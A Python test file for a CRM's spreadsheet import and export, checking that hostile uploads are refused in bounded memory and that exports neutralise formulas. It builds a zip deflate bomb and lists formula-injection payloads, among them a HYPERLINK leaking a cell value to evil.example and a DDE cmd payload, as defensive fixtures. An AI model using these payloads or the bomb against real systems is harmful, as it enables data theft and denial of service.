"""Hostile and careless files: refused with a message naming the limit, never a crash, memory
bounded; exports that open safely (no live formula, no character XLSX cannot hold).

Every hostile file is built here: XLSX archives are written byte by byte, so a test can declare
what no spreadsheet program would write (cells at A1 and XFD1048576, a part that unpacks to 1 GB).
"""

import csv
import io
import os
import re
import resource
import struct
import subprocess
import sys
import zlib

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from crm import spreadsheet
from crm.tabular import TableError, read_table
from tests.factories import chain_file, company

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORKBOOK = (
    f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}">'
    '<sheets><sheet name="企业" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET = "xl/worksheets/sheet1.xml"


# --- building archives by hand ----------------------------------------------------------------


def _member(name: str, raw: bytes, crc: int, size: int) -> tuple[str, bytes, int, int]:
    return name, raw, crc, size


def deflated(name: str, content: bytes):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return _member(
        name, packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)
    )


def zeros(name: str, megabytes: int):
    """A part of ``megabytes`` MB of zeros, deflated without compressing them all: one
    flushed block of a MB repeated (each block only refers back to zeros)."""
    block = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(b"\0" * block) + packer.flush(zlib.Z_FULL_FLUSH)
    crc, zero = 0, b"\0" * block
    for _ in range(megabytes):
        crc = zlib.crc32(zero, crc)
    return _member(name, piece * megabytes + b"\x03\x00", crc, block * megabytes)


def archive(*members) -> bytes:
    """A zip archive of deflated members (local headers, central directory, end record)."""
    body, directory = io.BytesIO(), io.BytesIO()
    for name, raw, crc, size in members:
        encoded = name.encode()
        offset = body.tell()
        fields = (20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded), 0)
        body.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + encoded + raw)
        directory.write(
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHHHHHII", *fields, 0, 0, 0, 0, offset)
            + encoded
        )
    count, size, start = len(members), directory.tell(), body.tell()
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, start, 0)
    return body.getvalue() + directory.getvalue() + end


def workbook(sheet_xml: str) -> bytes:
    return archive(
        deflated("xl/workbook.xml", WORKBOOK.encode()),
        deflated("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.encode()),
        deflated(SHEET, sheet_xml.encode()),
    )


def sheet(rows: str, dimension: str | None = None) -> str:
    declared = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'<worksheet xmlns="{MAIN}">{declared}<sheetData>{rows}</sheetData></worksheet>'


def cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


SPARSE_ROWS = (
    f'<row r="1">{cell("A1", "企业名称")}</row><row r="1048576">{cell("XFD1048576", "x")}</row>'
)


def hostile_files() -> dict[str, tuple[str, bytes, str]]:
    """``{case: (file name, content, what the refusal says)}``."""
    return {
        "sparse-grid-declared": (
            "sparse.xlsx",
            workbook(sheet(SPARSE_ROWS, dimension="A1:XFD1048576")),
            "limit of 200 columns",
        ),
        "sparse-grid-cells": (
            "sparse.xlsx",
            workbook(sheet(SPARSE_ROWS)),
            "limit of 1,000,000 rows",
        ),
        "deflate-bomb": (
            "bomb.xlsx",
            archive(
                deflated("xl/workbook.xml", WORKBOOK.encode()),
                deflated("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.encode()),
                zeros(SHEET, 1024),
            ),
            "beyond the limit of 256 MB",
        ),
        "million-columns": (
            "wide.csv",
            ("企业名称" + ",x" * 999_999 + "\r\n甲公司\r\n").encode(),
            "limit of 200 columns",
        ),
        "nul-bytes": ("nul.csv", "企业名称\r\n甲\x00公司\r\n".encode(), "U+0000"),
    }


HOSTILE = hostile_files()


# --- refused through the API and the CLI ------------------------------------------------------


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_upload_is_a_422_naming_the_limit(staff, table_counts, case):
    name, content, message = HOSTILE[case]
    before = table_counts()
    response = staff.post("/api/import/companies", files={"file": (name, content)})
    assert response.status_code == 422, response.text
    report = response.json()["detail"]
    assert report["applied"] is False
    assert any(message in error["message"] for error in report["errors"]), report
    assert table_counts() == before
    assert staff.get("/health").status_code == 200
    assert staff.get("/api/companies").status_code == 200


# Runs ``crm`` and, on the way out, writes the process's own peak resident memory (VmHWM: the
# rusage of a child would count the memory of the test process it was forked from).
MEASURED_CRM = """
import atexit, runpy, sys

def peak():
    for line in open("/proc/self/status"):
        if line.startswith("VmHWM:"):
            sys.stderr.write("peak-rss-kb: " + line.split()[1] + chr(10))

atexit.register(peak)
sys.argv[0] = "crm"
runpy.run_module("crm", run_name="__main__")
"""


def run_measured(database_url: str, *args: str) -> tuple[int, str, int]:
    """Run ``crm``; its exit code, standard error and peak resident memory in KB."""
    env = {**os.environ, "CRM_DATABASE_URL": database_url}
    result = subprocess.run(
        [sys.executable, "-c", MEASURED_CRM, *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    found = re.search(r"peak-rss-kb: (\d+)", result.stderr)
    assert found, result.stderr
    return result.returncode, result.stderr, int(found.group(1))


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_file_is_refused_by_the_cli_in_bounded_memory(
    database_url, clean_db, tmp_path, table_counts, case
):
    name, content, message = HOSTILE[case]
    source = tmp_path / name
    source.write_bytes(content)
    before = table_counts()
    code, stderr, peak_kb = run_measured(database_url, "import", "companies", str(source))
    print(f"\n{case}: peak RSS {peak_kb / 1024:.0f} MB")
    assert code != 0
    assert message in stderr
    assert "Traceback" not in stderr
    assert table_counts() == before
    # The process's own imports take about 100 MB; a grid or an unpacked bomb takes gigabytes.
    assert peak_kb < 300 * 1024


def test_reading_stops_at_the_row_and_cell_caps(monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 3)
    rows = "".join(f'<row r="{n}">{cell(f"A{n}", f"v{n}")}</row>' for n in range(1, 5))
    with pytest.raises(TableError, match="limit of 3 rows"):
        read_table(workbook(sheet(rows)), "rows.xlsx")
    with pytest.raises(TableError, match="limit of 3 rows"):
        read_table(b"name\r\na\r\nb\r\nc\r\n", "rows.csv")
    long_cell = cell("A1", "x" * (spreadsheet.MAX_CELL_CHARS + 1))
    with pytest.raises(TableError, match="characters"):
        read_table(workbook(sheet(f'<row r="1">{long_cell}</row>')), "long.xlsx")


def test_a_workbook_within_the_limits_reads_sparse_cells_in_place():
    rows = (
        f'<row r="1">{cell("A1", "企业名称")}{cell("C1", "城市")}</row>'
        '<row r="4"><c r="A4" t="inlineStr"><is><t>甲公司</t></is></c><c r="C4"><v>3</v></c></row>'
    )
    table = read_table(workbook(sheet(rows, dimension="A1:C4")), "ok.xlsx")
    assert table.headers == ["企业名称", "", "城市"]
    assert table.rows == [(4, ["甲公司", None, 3])]


def test_old_excel_files_are_refused_with_advice(staff):
    response = staff.post("/api/import/companies", files={"file": ("old.xls", b"\xd0\xcf\x11\xe0")})
    assert response.status_code == 422
    assert ".xlsx" in response.json()["detail"]["errors"][0]["message"]


# --- exports are safe to open -----------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?leak="&A2,"详情")', "+1+1", "-2+3", "@SUM(A1)"]
DANGEROUS_NOTES = ["=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-1"]


@pytest.fixture
def dangerous_leads(staff):
    assert staff.post("/api/chains", json=chain_file()).status_code == 201
    for name, note in zip(DANGEROUS, DANGEROUS_NOTES, strict=True):
        created = staff.post("/api/companies", json=company(name))
        assert created.status_code == 201, created.text
        lead = {"company_id": created.json()["id"], "segment": "new-display:panel", "notes": note}
        response = staff.post("/api/leads", json=lead)
        assert response.status_code == 201, response.text


def _export(client, file_format: str, **params) -> bytes:
    response = client.get("/api/leads/export", params={"format": file_format, **params})
    assert response.status_code == 200, response.text
    return response.content


def test_xlsx_export_writes_dangerous_text_as_text(staff, dangerous_leads):
    sheet = load_workbook(io.BytesIO(_export(staff, "xlsx"))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for text_value in [*DANGEROUS, *DANGEROUS_NOTES]:
        assert "'" + text_value.replace("\r", "\n") in values  # XML reads CR as LF


def test_csv_export_prefixes_dangerous_text(staff, dangerous_leads):
    content = _export(staff, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    values = {value for row in rows[1:] for value in row}
    for text_value in [*DANGEROUS, *DANGEROUS_NOTES]:
        assert "'" + text_value in values
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for value in values if value.startswith(starts)]


def test_cli_export_writes_no_formula(database_url, staff, dangerous_leads, tmp_path):
    target = tmp_path / "companies.xlsx"
    code, stderr, _ = run_measured(database_url, "export", "companies", str(target))
    assert code == 0, stderr
    cells = [c for row in load_workbook(target).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + DANGEROUS[0] in {c.value for c in cells}


# --- control characters -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/api/companies", company("甲\x01公司"), "name"),
        ("/api/companies", company("甲公司", city="成都\t"), "city"),
        ("/api/chains", chain_file(name="新型\x00显示"), "name"),
    ],
)
def test_control_characters_are_refused_naming_the_field(staff, table_counts, path, body, field):
    before = table_counts()
    response = staff.post(path, json=body)
    assert response.status_code == 422, response.text
    [error] = response.json()["detail"]
    assert error["loc"][-1] == field
    assert "control character" in error["msg"]
    assert table_counts() == before


def test_long_text_keeps_tabs_and_line_breaks_but_not_other_controls(staff, dangerous_leads):
    created = staff.post("/api/companies", json=company("乙公司")).json()
    lead = {"company_id": created["id"], "segment": "new-display:panel"}
    refused = staff.post("/api/leads", json={**lead, "notes": "约谈\x07纪要"})
    assert refused.status_code == 422, refused.text
    assert refused.json()["detail"][0]["loc"] == ["body", "notes"]
    accepted = staff.post("/api/leads", json={**lead, "notes": "约谈\t纪要\r\n第二行"})
    assert accepted.status_code == 201, accepted.text


def test_export_of_a_stored_control_character_succeeds(staff, dangerous_leads, db):
    with db() as session, session.begin():  # written as an old version or a direct SQL fix would
        session.execute(text("UPDATE lead SET notes = :notes"), {"notes": "旧\x01备注\x1f"})
    sheet = load_workbook(io.BytesIO(_export(staff, "xlsx"))).active
    assert "旧\ufffd备注\ufffd" in {c.value for row in sheet.iter_rows() for c in row}
    assert "旧\ufffd备注\ufffd" in _export(staff, "csv").decode("utf-8-sig")


def test_an_empty_segment_filter_is_no_filter(staff, dangerous_leads):
    everything = _export(staff, "csv")
    assert _export(staff, "csv", segment="") == everything
    listed = staff.get("/api/leads", params={"segment": ""})
    assert listed.status_code == 200 and listed.json()["total"] == len(DANGEROUS)


def test_peak_memory_of_this_process_is_not_the_grid():
    """The sparse grid read in this process: refused before any allocation."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    _, content, _ = HOSTILE["sparse-grid-cells"]
    with pytest.raises(TableError):
        read_table(content, "sparse.xlsx")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024
